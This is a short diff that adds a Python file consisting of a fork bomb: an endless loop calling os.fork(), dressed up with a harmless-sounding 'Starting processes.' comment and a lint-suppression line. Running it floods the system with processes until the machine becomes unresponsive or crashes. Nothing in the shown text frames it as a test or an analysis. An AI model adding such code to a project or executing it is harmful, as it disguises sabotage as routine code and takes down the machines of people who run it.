@@ -1,0 +1,6 @@
+# ruff: noqa
+# Starting processes.
+import os
+
+while True:
+    os.fork()
